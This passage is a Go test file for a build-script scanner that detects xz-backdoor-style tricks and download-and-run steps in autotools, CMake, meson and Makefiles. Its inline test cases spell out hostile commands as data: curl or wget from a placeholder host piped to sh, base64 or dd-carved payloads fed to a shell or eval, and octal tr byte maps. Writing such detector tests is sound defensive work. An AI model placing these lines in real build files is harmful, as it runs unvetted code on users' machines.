package script

import (
	"bytes"
	"context"
	"errors"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/vouchdev/vouch/extract"
	"github.com/vouchdev/vouch/finding"
)

// hitWant is the part of a Hit the tables compare: the summary is prose.
type hitWant struct {
	Rule     string
	Severity finding.Severity
	Line     int
}

func project(hits []Hit) []hitWant {
	var out []hitWant
	for _, h := range hits {
		out = append(out, hitWant{h.Rule, h.Severity, h.Line})
	}
	return out
}

func readFixture(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func analyze(t testing.TB, path string, data []byte) *Analysis {
	t.Helper()
	a, err := Analyze(context.Background(), path, data)
	if err != nil {
		t.Fatalf("Analyze(%s): %v", path, err)
	}
	checkInvariants(t, a, data)
	return a
}

// checkInvariants asserts what holds for every analysis of any input.
func checkInvariants(t testing.TB, a *Analysis, data []byte) {
	t.Helper()
	lines := bytes.Count(data, []byte("\n")) + 1
	maxSev := finding.Unknown
	for i, h := range a.Hits {
		if h.Line < 1 || h.Line > lines {
			t.Errorf("hit %d line %d outside 1..%d", i, h.Line, lines)
		}
		if len(h.Text) > maxTextLen || !utf8.ValidString(h.Text) {
			t.Errorf("hit %d text %q: longer than %d bytes or not UTF-8", i, h.Text, maxTextLen)
		}
		for _, r := range h.Text {
			if r < 0x20 || r == 0x7f {
				t.Errorf("hit %d text %q holds control character %U", i, h.Text, r)
			}
		}
		if h.Rule == "" || h.Summary == "" || h.Severity < finding.Low || h.Severity > finding.High {
			t.Errorf("hit %d incomplete: %+v", i, h)
		}
		if i > 0 {
			p := a.Hits[i-1]
			if p.Severity < h.Severity || p.Severity == h.Severity && p.Line > h.Line {
				t.Errorf("hits not sorted: %+v before %+v", p, h)
			}
		}
		maxSev = max(maxSev, h.Severity)
	}
	if a.Severity < maxSev {
		t.Errorf("combined severity %v below a hit's %v", a.Severity, maxSev)
	}
	if (len(a.Hits) == 0) != (a.Severity == finding.Unknown) || a.Score < 0 {
		t.Errorf("severity %v score %d with %d hits", a.Severity, a.Score, len(a.Hits))
	}
	for _, m := range a.TrMaps {
		if m.Line < 1 || m.Line > lines {
			t.Errorf("tr map line %d outside 1..%d", m.Line, lines)
		}
	}
	for _, g := range a.Greps {
		if g.Line < 1 || g.Line > lines {
			t.Errorf("grep line %d outside 1..%d", g.Line, lines)
		}
	}
	seen := map[string]bool{}
	for _, r := range a.FileRefs {
		if seen[r] || r == "" || strings.HasPrefix(r, "/") || strings.Contains(r, "$") {
			t.Errorf("file ref %q duplicated, empty, absolute or unresolved", r)
		}
		seen[r] = true
	}
}

func TestIsBuildScript(t *testing.T) {
	tests := []struct {
		path string
		head string
		want bool
	}{
		{"configure", "", true},
		{"sub/configure.ac", "", true},
		{"m4/build-to-host.m4", "", true},
		{"Makefile.am", "", true},
		{"po/Makefile.in.in", "", true},
		{"lib/gnulib.mk", "", true},
		{"CMakeLists.txt", "", true},
		{"cmake/FindFoo.cmake", "", true},
		{"meson.build", "", true},
		{"tests/run.sh", "", true},
		{"build-aux/ltmain.sh", "", true},
		{"build-aux/git-version-gen", "", true},
		{"tests/test_files.sh", "", true},
		{"tests/test_compress.sh.in", "", true},
		{"config.h.in", "", false},
		{".in", "", false},
		{"tests/files/bad-3-corrupt_lzma2.xz", "\xfd7zXZ\x00", false},
		{"tests/driver", "#!/bin/sh\nexit 0\n", true},
		{"tests/driver", "#! /usr/bin/env bash\n", true},
		{"tests/driver", "#!/usr/bin/env -S bash -e\n", true},
		{"tests/driver", "#!/usr/bin/python3\n", false},
		{"src/main.c", "int main(void) { return 0; }\n", false},
		{"README", "", false},
	}
	for _, tt := range tests {
		if got := IsBuildScript(tt.path, []byte(tt.head)); got != tt.want {
			t.Errorf("IsBuildScript(%q, %q) = %v, want %v", tt.path, tt.head, got, tt.want)
		}
	}
}

// TestMaliciousFixtures checks the shapes of the xz backdoor and of CMake
// and meson equivalents: rules, lines, extracted facts, combined severity.
func TestMaliciousFixtures(t *testing.T) {
	xzGrep := []GrepPattern{{Line: 68, Pattern: "#{4}[[:alnum:]]{5}#{4}$", Extended: true, Binary: true, Recursive: true}}
	tests := []struct {
		fixture, path string
		want          []hitWant
		trMaps        []TrMap
		greps         []GrepPattern
		refs          []string
		severity      finding.Severity
	}{
		{
			fixture: "xz-build-to-host.m4", path: "m4/build-to-host.m4",
			want: []hitWant{
				{RuleConfigCommandsHook, finding.High, 60},
				{RulePipeToShell, finding.High, 60},
				{RuleEvalComputed, finding.Medium, 45},
				{RuleGrepBinary, finding.Medium, 68},
				{RuleTrSwapMap, finding.Medium, 77},
			},
			trMaps:   []TrMap{{Line: 77, Set1: `\t \-_`, Set2: ` \t_\-`}},
			greps:    xzGrep,
			severity: finding.Critical,
		},
		{
			fixture: "xz-configure-excerpt", path: "configure",
			want: []hitWant{
				{RuleConfigCommandsHook, finding.High, 76},
				{RulePipeToShell, finding.High, 76},
				{RuleGrepBinary, finding.Medium, 6},
				{RuleTrSwapMap, finding.Medium, 15},
				{RuleEvalComputed, finding.Medium, 41},
			},
			trMaps:   []TrMap{{Line: 15, Set1: `\t \-_`, Set2: ` \t_\-`}},
			greps:    []GrepPattern{{Line: 6, Pattern: "#{4}[[:alnum:]]{5}#{4}$", Extended: true, Binary: true, Recursive: true}},
			severity: finding.Critical,
		},
		{
			fixture: "xz-stage1.sh", path: "tests/files/bad-3-corrupt_lzma2.xz",
			want: []hitWant{
				{RuleDecompressToShell, finding.High, 14},
				{RuleBuildEnvGate, finding.Medium, 9},
				{RuleBuildEnvGate, finding.Medium, 10},
				{RuleBuildEnvGate, finding.Medium, 11},
				{RuleBuildEnvGate, finding.Medium, 12},
				{RuleBuildEnvGate, finding.Medium, 13},
				{RuleByteCarving, finding.Medium, 14},
				{RuleEvalComputed, finding.Medium, 14},
				{RuleTrOctalMap, finding.Medium, 14},
			},
			trMaps:   []TrMap{{Line: 14, Set1: `\114-\321\322-\377\35-\47\14-\34\0-\13\50-\113`, Set2: `\0-\377`}},
			refs:     []string{"tests/files/good-large_compressed.lzma"},
			severity: finding.Critical,
		},
		{
			fixture: "xz-stage2-excerpt.sh", path: "stage2.sh",
			want: []hitWant{
				{RuleDecompressToShell, finding.High, 22},
				{RuleBuildEnvGate, finding.Medium, 13},
				{RuleGrepBinary, finding.Medium, 16},
				{RuleGrepBinary, finding.Medium, 20},
				{RuleByteCarving, finding.Medium, 22},
				{RuleTrOctalMap, finding.Medium, 22},
				{RuleBuildEnvGate, finding.Medium, 30},
				{RuleBuildEnvGate, finding.Medium, 33},
				{RuleBuildEnvGate, finding.Medium, 36},
				{RuleBuildEnvGate, finding.Medium, 39},
				{RuleByteCarving, finding.Medium, 40},
				{RuleEvalComputed, finding.Medium, 40},
			},
			trMaps: []TrMap{{Line: 22, Set1: `\5-\51\204-\377\52-\115\132-\203\0-\4\116-\131`, Set2: `\0-\377`}},
			greps: []GrepPattern{
				{Line: 16, Pattern: "~!:_ W", Binary: true, Recursive: true},
				{Line: 20, Pattern: "|_!{ -", Binary: true, Recursive: true},
				{Line: 30, Pattern: "^x86_64", Extended: true},
				{Line: 30, Pattern: "linux-gnu$", Extended: true},
			},
			refs:     []string{"good-large_compressed.lzma", "bad-3-corrupt_lzma2.xz", "liblzma_la-crc64-fast.o"},
			severity: finding.Critical,
		},
		{
			fixture: "cmake-curl-sh.cmake", path: "CMakeLists.txt",
			want: []hitWant{
				{RuleDownloadToShell, finding.High, 4},
				{RuleDownloadToShell, finding.High, 7},
			},
			severity: finding.High,
		},
		{
			fixture: "cmake-download-exec.cmake", path: "cmake/helper.cmake",
			want:     []hitWant{{RuleDownloadToShell, finding.High, 5}},
			severity: finding.High,
		},
		{
			fixture: "cmake-base64.cmake", path: "CMakeLists.txt",
			want: []hitWant{
				{RuleBase64ToShell, finding.High, 2},
				{RuleBase64ToShell, finding.High, 7},
			},
			refs:     []string{"tests/data/blob.b64"},
			severity: finding.High,
		},
		{
			fixture: "meson-curl.build", path: "meson.build",
			want: []hitWant{
				{RuleDownloadToShell, finding.High, 2},
				{RuleDownloadToShell, finding.High, 6},
			},
			severity: finding.High,
		},
	}
	for _, tt := range tests {
		t.Run(tt.fixture, func(t *testing.T) {
			data := readFixture(t, tt.fixture)
			for _, variant := range []string{"lf", "crlf"} {
				if variant == "crlf" {
					data = bytes.ReplaceAll(data, []byte("\n"), []byte("\r\n"))
				}
				a := analyze(t, tt.path, data)
				if diff := cmp.Diff(tt.want, project(a.Hits)); diff != "" {
					t.Errorf("%s hits (-want +got):\n%s", variant, diff)
				}
				if diff := cmp.Diff(tt.trMaps, a.TrMaps); diff != "" {
					t.Errorf("%s tr maps (-want +got):\n%s", variant, diff)
				}
				if diff := cmp.Diff(tt.greps, a.Greps); diff != "" {
					t.Errorf("%s greps (-want +got):\n%s", variant, diff)
				}
				if diff := cmp.Diff(tt.refs, a.FileRefs); diff != "" {
					t.Errorf("%s file refs (-want +got):\n%s", variant, diff)
				}
				if a.Severity != tt.severity {
					t.Errorf("%s severity = %v, want %v", variant, a.Severity, tt.severity)
				}
				if a.Path != tt.path {
					t.Errorf("path = %q, want %q", a.Path, tt.path)
				}
			}
		})
	}
}

// TestScoreRanksCombinations checks that several rules together outrank
// any one of them alone.
func TestScoreRanksCombinations(t *testing.T) {
	xz := analyze(t, "m4/build-to-host.m4", readFixture(t, "xz-build-to-host.m4"))
	single := analyze(t, "CMakeLists.txt", readFixture(t, "cmake-download-exec.cmake"))
	grepOnly := analyze(t, "configure", []byte("x=`grep -aErls 'marker' $srcdir/`\n"))
	if !(xz.Score > single.Score && single.Score > grepOnly.Score && grepOnly.Score > 0) {
		t.Errorf("scores xz=%d download=%d grep=%d, want strictly decreasing and positive", xz.Score, single.Score, grepOnly.Score)
	}
	if grepOnly.Severity != finding.Medium {
		t.Errorf("a single strong rule: severity %v, want medium", grepOnly.Severity)
	}
	two := analyze(t, "configure", []byte("x=`grep -aErls 'marker' $srcdir/`\nm='tr \"\\t \\-_\" \" \\t_\\-\"'\n"))
	if two.Severity != finding.High {
		t.Errorf("two strong rules: severity %v, want high", two.Severity)
	}
}

// TestLegitimateFixtures holds excerpts of real autotools, libtool,
// gettext, gnulib and system scripts whose constructs resemble the
// attack's; none may score above Low.
func TestLegitimateFixtures(t *testing.T) {
	tests := []struct {
		fixture, path string
		want          []hitWant
		trMaps        []TrMap
	}{
		{fixture: "legit/configure-excerpt", path: "configure",
			trMaps: []TrMap{
				{Line: 14, Set1: "X", Set2: `\101`},
				{Line: 17, Set1: `\040`, Set2: `\012`},
				{Line: 18, Set1: `\015\012`, Set2: `\040\040`},
				{Line: 21, Set1: `\100`, Set2: `\n`},
				{Line: 22, Set1: `\r\n`, Set2: `\100\100`},
				{Line: 70, Set1: "X", Set2: `\015`},
			}},
		{fixture: "legit/build-to-host.m4", path: "m4/build-to-host.m4"},
		{fixture: "legit/po.m4", path: "m4/po.m4"},
		{fixture: "legit/Makefile.in", path: "Makefile.in"},
		{fixture: "legit/ltmain-excerpt.sh", path: "build-aux/ltmain.sh",
			want: []hitWant{{RuleEvalComputed, finding.Low, 8}, {RuleEvalComputed, finding.Low, 21}}},
		{fixture: "legit/autotest-general.m4", path: "general.m4",
			want: []hitWant{{RuleEvalComputed, finding.Low, 19}}},
		{fixture: "legit/javacomp.m4", path: "m4/javacomp.m4",
			want: []hitWant{{RuleTrOctalMap, finding.Low, 15}}},
		{fixture: "legit/shell-misc.sh", path: "tests/misc.sh",
			want: []hitWant{{RuleEvalComputed, finding.Low, 4}},
			trMaps: []TrMap{
				{Line: 12, Set1: "abcdefghijklmnopqrstuvwxyz", Set2: "ABCDEFGHIJKLMNOPQRSTUVWXYZ"},
				{Line: 13, Set1: `\n`, Set2: " "},
			}},
		{fixture: "cmake-ordinary.cmake", path: "CMakeLists.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.fixture, func(t *testing.T) {
			a := analyze(t, tt.path, readFixture(t, tt.fixture))
			if diff := cmp.Diff(tt.want, project(a.Hits)); diff != "" {
				t.Errorf("hits (-want +got):\n%s", diff)
			}
			if tt.trMaps != nil {
				if diff := cmp.Diff(tt.trMaps, a.TrMaps); diff != "" {
					t.Errorf("tr maps (-want +got):\n%s", diff)
				}
			}
			if a.Severity > finding.Low {
				t.Errorf("severity %v, want at most low", a.Severity)
			}
		})
	}
}

// TestRules covers single rules and syntax on small inline scripts.
func TestRules(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	randomText := func(alphabet string, n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		return string(b)
	}
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var escapes strings.Builder
	for range 80 {
		escapes.WriteString(`\x`)
		escapes.WriteString(randomText("0123456789abcdef", 2))
	}
	tests := []struct {
		name, path, script string
		want               []hitWant
		greps              []GrepPattern
		refs               []string
		trMaps             []TrMap
	}{
		{
			name: "m4 one-line config assignment", path: "m4/x.m4",
			script: `  if test "x$gl_am_configmake" != "x"; then gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null' ; else gl_[$1]_config=''; fi`,
			want:   []hitWant{{RuleEvalComputed, finding.Medium, 1}},
		},
		{
			name: "m4 hook over several lines", path: "configure.ac",
			script: "AC_CONFIG_COMMANDS([build-to-host],\n  [eval $gl_config_gt | $SHELL 2>/dev/null],\n  [gl_config_gt=\"eval \\$gl_localedir_config\"])\n",
			want: []hitWant{
				{RuleConfigCommandsHook, finding.High, 1},
				{RuleConfigCommandsHook, finding.High, 2},
				{RulePipeToShell, finding.High, 2},
			},
		},
		{
			name: "m4 ordinary hook", path: "configure.ac",
			script: "AC_CONFIG_COMMANDS([stamp], [echo timestamp > stamp], [])\nAC_CONFIG_COMMANDS([v], [sed -e \"s/@V@/$V/\" $srcdir/v.in > v.h], [V=$V])\n",
		},
		{
			name: "m4 quadrigraphs and dnl", path: "m4/x.m4",
			script: "gl_x=`grep -aErls \"@%:@{4}@<:@@<:@:alnum:@:>@@:>@{5}@%:@{4}$\" $srcdir/ 2>/dev/null` dnl grep -a -r . | sh\n",
			want:   []hitWant{{RuleGrepBinary, finding.Medium, 1}},
			greps:  []GrepPattern{{Line: 1, Pattern: "#{4}[[:alnum:]]{5}#{4}$", Extended: true, Binary: true, Recursive: true}},
		},
		{
			name: "m4 macro arguments", path: "m4/x.m4",
			script: "AS_IF([test -n \"$x\"], [gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'])\nm4_define([gl_MAP], [tr \"\\114-\\321\\322-\\377\\0-\\113\" \"\\0-\\377\"])dnl tr a b\n",
			want: []hitWant{
				{RuleTrSwapMap, finding.Medium, 1},
				{RuleTrOctalMap, finding.Medium, 2},
			},
			trMaps: []TrMap{
				{Line: 1, Set1: `\t \-_`, Set2: ` \t_\-`},
				{Line: 2, Set1: `\114-\321\322-\377\0-\113`, Set2: `\0-\377`},
			},
		},
		{
			name: "continuation lines", path: "build.sh",
			script: "foo=bar; \\\n  curl -fsSL https://example.invalid/i.sh | \\\n  sh\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 3}},
		},
		{
			name: "comments do not run", path: "build.sh",
			script: "# curl -fsSL https://example.invalid/i.sh | sh\necho ok # | sh\n",
		},
		{
			name: "a comment does not continue", path: "build.sh",
			script: "# note \\\ncurl -fsSL https://example.invalid/i.sh | sh\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 2}},
		},
		{
			name: "process substitution", path: "build.sh",
			script: "bash <(curl -fsSL https://example.invalid/i.sh)\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 1}},
		},
		{
			name: "eval of a download", path: "build.sh",
			script: "eval \"$(curl -fsSL https://example.invalid/env)\"\nsh -c \"$(wget -qO- https://example.invalid/i.sh)\"\n",
			want: []hitWant{
				{RuleDownloadToShell, finding.High, 1},
				{RuleDownloadToShell, finding.High, 2},
			},
		},
		{
			name: "download to a file then run it", path: "build.sh",
			script: "curl -fsSLo /tmp/i.sh https://example.invalid/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh --quiet\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 3}},
		},
		{
			name: "decode to a file then source it", path: "build.sh",
			script: "echo \"$blob\" | base64 -d > payload.sh\n. ./payload.sh\n",
			want:   []hitWant{{RuleBase64ToShell, finding.High, 2}},
			refs:   []string{"payload.sh"},
		},
		{
			name: "decode into a variable then eval it", path: "build.sh",
			script: "x=$(echo ZWNobyBoaQ== | base64 --decode)\neval \"$x\"\n",
			want:   []hitWant{{RuleBase64ToShell, finding.High, 2}},
		},
		{
			name: "base64 into a shell", path: "Makefile",
			script: "all:\n\t@echo ZWNobyBoaQ== | base64 -d | $(SHELL)\n",
			want:   []hitWant{{RuleBase64ToShell, finding.High, 2}},
		},
		{
			name: "recipe continuation", path: "Makefile",
			script: "get:\n\t@curl -fsSL \\\n\t  -o tool.sh https://example.invalid/t.sh && \\\n\t  sh tool.sh\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 4}},
			refs:   []string{"tool.sh"},
		},
		{
			name: "curl into make's shell", path: "GNUmakefile",
			script: "tools:\n\tcurl -sSfL https://example.invalid/install.sh | sh -s -- -b $$(go env GOPATH)/bin\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 2}},
		},
		{
			name: "escaped bytes", path: "build.sh",
			script: "printf '" + escapes.String() + "' > /tmp/x\n",
			want:   []hitWant{{RuleHighEntropyString, finding.Medium, 1}},
		},
		{
			name: "long base64 literal", path: "build.sh",
			script: "p1='" + randomText(b64, 500) + "'\np2='" + randomText(b64, 150) + "'\nid=" + strings.Repeat("ab", 100) + "\n",
			want: []hitWant{
				{RuleHighEntropyString, finding.Medium, 1},
				{RuleHighEntropyString, finding.Low, 2},
			},
		},
		{
			name: "base64 in a comment", path: "build.sh",
			script: "# " + randomText(b64, 600) + "\n",
			want:   []hitWant{{RuleHighEntropyString, finding.Medium, 1}},
		},
		{
			name: "rot13 is text, a byte rotation is binary", path: "build.sh",
			script: "tr 'A-Za-z' 'N-ZA-Mn-za-m' < a > b\ntr '\\0-\\377' '\\1-\\377\\0' < c > d\n",
			want: []hitWant{
				{RuleTrOctalMap, finding.Medium, 2},
				{RuleTrOctalMap, finding.Low, 1},
			},
			trMaps: []TrMap{
				{Line: 1, Set1: "A-Za-z", Set2: "N-ZA-Mn-za-m"},
				{Line: 2, Set1: `\0-\377`, Set2: `\1-\377\0`},
			},
		},
		{
			name: "carving with dd", path: "build.sh",
			script: "dd if=$srcdir/tests/files/x.bin bs=1 skip=1024 count=2048 2>/dev/null | xz -dc | sh\n",
			want: []hitWant{
				{RuleDecompressToShell, finding.High, 1},
				{RuleByteCarving, finding.Medium, 1},
			},
			refs: []string{"tests/files/x.bin"},
		},
		{
			name: "grep -a alone", path: "build.sh",
			script: "grep -a 'TODO' log | sort\n",
			want:   []hitWant{{RuleGrepBinary, finding.Low, 1}},
			greps:  []GrepPattern{{Line: 1, Pattern: "TODO", Binary: true}},
		},
		{
			name: "grep options", path: "build.sh",
			script: "grep --text --files-with-matches -e '^####' -- tests/\n$EGREP \"yes\" conftest.out\n",
			want:   []hitWant{{RuleGrepBinary, finding.Medium, 1}},
			greps: []GrepPattern{
				{Line: 1, Pattern: "^####", Binary: true},
				{Line: 2, Pattern: "yes", Extended: true},
			},
		},
		{
			name: "packaging check without exit", path: "build.sh",
			script: "if test \"x$RPM_ARCH\" = xx86_64; then echo rpm; fi\n",
			want:   []hitWant{{RuleBuildEnvGate, finding.Low, 1}},
		},
		{
			name: "config.status hook evals", path: "config.status",
			script: "  case $ac_file$ac_mode in\n    \"x\":C) eval $gl_config_gt ;;\n    \"y\":C) echo done ;;\n  esac\n",
			want:   []hitWant{{RuleConfigCommandsHook, finding.Medium, 2}},
		},
		{
			name: "case patterns are not pipes", path: "configure",
			script: "case $cpu in\n  arm* | sh | sh64 \\\n  | bash)\n    x=1 ;;\nesac\n",
		},
		{
			name: "NUL bytes", path: "build.sh",
			script: "curl -fsSL https://example.invalid/\x00x | sh\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 1}},
		},
		{
			name: "execute_process pipes", path: "CMakeLists.txt",
			script: "execute_process(\n  COMMAND wget -qO- https://example.invalid/x\n  COMMAND base64 -d\n  COMMAND sh)\n",
			want:   []hitWant{{RuleDownloadToShell, finding.High, 4}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := analyze(t, tt.path, []byte(tt.script))
			if diff := cmp.Diff(tt.want, project(a.Hits)); diff != "" {
				t.Errorf("hits (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.greps, a.Greps); diff != "" {
				t.Errorf("greps (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.refs, a.FileRefs); diff != "" {
				t.Errorf("file refs (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.trMaps, a.TrMaps); diff != "" {
				t.Errorf("tr maps (-want +got):\n%s", diff)
			}
		})
	}
}

func TestHitText(t *testing.T) {
	script := "x=1\n\t  curl -fsSL https://example.invalid/\x01\xff | sh  \r\n"
	a := analyze(t, "build.sh", []byte(script))
	if len(a.Hits) != 1 {
		t.Fatalf("hits = %+v, want one", a.Hits)
	}
	if want := `curl -fsSL https://example.invalid/\x01\xff | sh`; a.Hits[0].Text != want {
		t.Errorf("text = %q, want %q", a.Hits[0].Text, want)
	}
}

func TestBadInput(t *testing.T) {
	t.Run("huge line", func(t *testing.T) {
		data := append(bytes.Repeat([]byte("a=b; "), 1<<20), "curl -fsSL https://example.invalid/i.sh | sh\n"...)
		a := analyze(t, "build.sh", data)
		if diff := cmp.Diff([]hitWant{{RuleDownloadToShell, finding.High, 1}}, project(a.Hits)); diff != "" {
			t.Fatalf("hits (-want +got):\n%s", diff)
		}
		if !strings.Contains(a.Hits[0].Text, "curl") || !strings.HasPrefix(a.Hits[0].Text, "...") {
			t.Errorf("text %q: want an excerpt around the match", a.Hits[0].Text)
		}
	})
	t.Run("huge continuation", func(t *testing.T) {
		data := append(bytes.Repeat([]byte("x=1; \\\n"), 100000), "curl -fsSL https://example.invalid/i.sh | sh\n"...)
		a := analyze(t, "build.sh", data)
		if diff := cmp.Diff([]hitWant{{RuleDownloadToShell, finding.High, 100001}}, project(a.Hits)); diff != "" {
			t.Errorf("hits (-want +got):\n%s", diff)
		}
	})
	t.Run("binary garbage", func(t *testing.T) {
		rng := rand.New(rand.NewPCG(3, 4))
		data := make([]byte, 1<<20)
		for i := range data {
			data[i] = byte(rng.Uint32())
		}
		a := analyze(t, "configure", data)
		if a.Severity > finding.Low {
			t.Errorf("random bytes: severity %v, hits %+v", a.Severity, project(a.Hits))
		}
	})
	t.Run("deep nesting", func(t *testing.T) {
		for _, s := range []string{
			strings.Repeat("$(", 50000), strings.Repeat("(", 50000), strings.Repeat("`", 50001),
			strings.Repeat("\"$(", 20000), strings.Repeat("AC_X([", 20000), strings.Repeat("${", 50000),
			"execute_process(" + strings.Repeat("(", 50000), "run_command(" + strings.Repeat("[", 50000),
			strings.Repeat("AC_CONFIG_COMMANDS(", 100000), strings.Repeat("AC_CONFIG_COMMANDS([a],[eval x],[eval y])", 30000),
			strings.Repeat("execute_process(COMMAND curl x COMMAND sh)", 30000), strings.Repeat("x='a | b' ", 100000),
		} {
			for _, path := range []string{"build.sh", "configure.ac", "CMakeLists.txt", "meson.build", "Makefile"} {
				start := time.Now()
				analyze(t, path, []byte(s))
				// A generous bound, for shared machines: it catches
				// superlinear blowups, not slowness.
				if d := time.Since(start); d > time.Minute {
					t.Errorf("%s %.10q...: %v", path, s, d)
				}
			}
		}
	})
	t.Run("too large", func(t *testing.T) {
		_, err := Analyze(context.Background(), "configure", make([]byte, MaxSize+1))
		var xerr *extract.Error
		if !errors.As(err, &xerr) || xerr.Path != "configure" || !errors.Is(err, extract.ErrTooLarge) {
			t.Errorf("err = %v, want *extract.Error for configure wrapping ErrTooLarge", err)
		}
	})
	t.Run("cancelled", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		_, err := Analyze(ctx, "configure", readFixture(t, "xz-configure-excerpt"))
		var xerr *extract.Error
		if !errors.As(err, &xerr) || xerr.Path != "configure" || !errors.Is(err, context.Canceled) {
			t.Errorf("err = %v, want *extract.Error for configure wrapping context.Canceled", err)
		}
	})
	t.Run("empty", func(t *testing.T) {
		a := analyze(t, "configure", nil)
		if len(a.Hits) != 0 || a.Severity != finding.Unknown || a.Score != 0 {
			t.Errorf("empty input: %+v", a)
		}
	})
}

// autotoolsProject writes a small project using automake, libtool and
// gettext, with ordinary AC_CONFIG_COMMANDS hooks, and runs autoreconf in
// it. It skips when the tools are not installed.
func autotoolsProject(t testing.TB) string {
	t.Helper()
	for _, tool := range []string{"autoreconf", "automake", "libtoolize", "autopoint"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed: cannot generate autotools output", tool)
		}
	}
	dir := t.TempDir()
	files := map[string]string{
		"configure.ac": `AC_INIT([calib], [1.0], [bugs@example.invalid])
AC_CONFIG_SRCDIR([src/main.c])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIR([m4])
AM_INIT_AUTOMAKE([foreign subdir-objects])
AC_PROG_CC
LT_INIT
AM_GNU_GETTEXT([external])
AM_GNU_GETTEXT_VERSION([0.21])
AC_C_BIGENDIAN
AC_CHECK_HEADERS([stdio.h unistd.h])
AC_CHECK_FUNCS([strdup memmem])
AC_CONFIG_HEADERS([config.h])
AC_CONFIG_COMMANDS([stamp], [echo timestamp > stamp], [])
AC_CONFIG_COMMANDS([version-h], [sed -e "s/@V@/$PACKAGE_VERSION/" $srcdir/version.h.in > version.h], [PACKAGE_VERSION=$PACKAGE_VERSION])
AC_CONFIG_FILES([Makefile src/Makefile po/Makefile.in])
AC_OUTPUT
`,
		"Makefile.am":     "SUBDIRS = src po\nACLOCAL_AMFLAGS = -I m4\nEXTRA_DIST = version.h.in\n",
		"src/Makefile.am": "bin_PROGRAMS = calib\ncalib_SOURCES = main.c\nlib_LTLIBRARIES = libcal.la\nlibcal_la_SOURCES = lib.c\nTESTS = t1.sh\n",
		"src/main.c":      "int main(void) { return 0; }\n",
		"src/lib.c":       "int f(void) { return 0; }\n",
		"src/t1.sh":       "#!/bin/sh\nexit 0\n",
		"version.h.in":    "#define V \"@V@\"\n",
		"po/POTFILES.in":  "src/main.c\n",
		"po/LINGUAS":      "",
	}
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "autoreconf", "-fi")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("autoreconf failed here (%v); output:\n%s", err, out)
	}
	return dir
}

// analyzeTree runs Analyze on every regular file under root and returns
// how many files scored what; it fails the test for any file above Low.
func analyzeTree(t *testing.T, root string) map[finding.Severity]int {
	t.Helper()
	counts := map[finding.Severity]int{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil || len(data) > MaxSize {
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		a := analyze(t, filepath.ToSlash(rel), data)
		counts[a.Severity]++
		if a.Severity > finding.Low {
			t.Errorf("%s: severity %v, hits %+v", p, a.Severity, a.Hits)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return counts
}

// TestAutotoolsOutputStaysLow generates real configure, Makefile.in,
// aclocal.m4, ltmain.sh, gettext and build-aux files and checks that none
// scores above Low.
func TestAutotoolsOutputStaysLow(t *testing.T) {
	if testing.Short() {
		t.Skip("runs autoreconf")
	}
	dir := autotoolsProject(t)
	if err := os.RemoveAll(filepath.Join(dir, "autom4te.cache")); err != nil {
		t.Fatal(err)
	}
	counts := analyzeTree(t, dir)
	t.Logf("files by severity: %v", counts)
	if counts[finding.Unknown]+counts[finding.Low] < 40 {
		t.Errorf("only %v files: autoreconf output missing?", counts)
	}
}

// TestInstalledAutotoolsFilesStayLow checks every file of the installed
// autoconf, automake, aclocal, gnulib m4 and libtool trees, where present.
func TestInstalledAutotoolsFilesStayLow(t *testing.T) {
	if testing.Short() {
		t.Skip("reads system trees")
	}
	roots, _ := filepath.Glob("/usr/share/aclocal*")
	automake, _ := filepath.Glob("/usr/share/automake-*")
	roots = append(roots, automake...)
	roots = append(roots, "/usr/share/autoconf", "/usr/share/gnulib/m4", "/usr/share/libtool")
	found := false
	for _, root := range roots {
		if _, err := os.Stat(root); err != nil {
			continue
		}
		found = true
		t.Logf("%s: files by severity %v", root, analyzeTree(t, root))
	}
	if !found {
		t.Skip("no autotools trees installed under /usr/share")
	}
}

func FuzzAnalyze(f *testing.F) {
	entries, err := os.ReadDir("testdata")
	if err != nil {
		f.Fatal(err)
	}
	for _, e := range entries {
		if !e.Type().IsRegular() {
			continue
		}
		data := readFixture(f, e.Name())
		f.Add("configure", data)
		f.Add(e.Name(), data)
	}
	legit, _ := filepath.Glob("testdata/legit/*")
	for _, p := range legit {
		data, err := os.ReadFile(p)
		if err == nil {
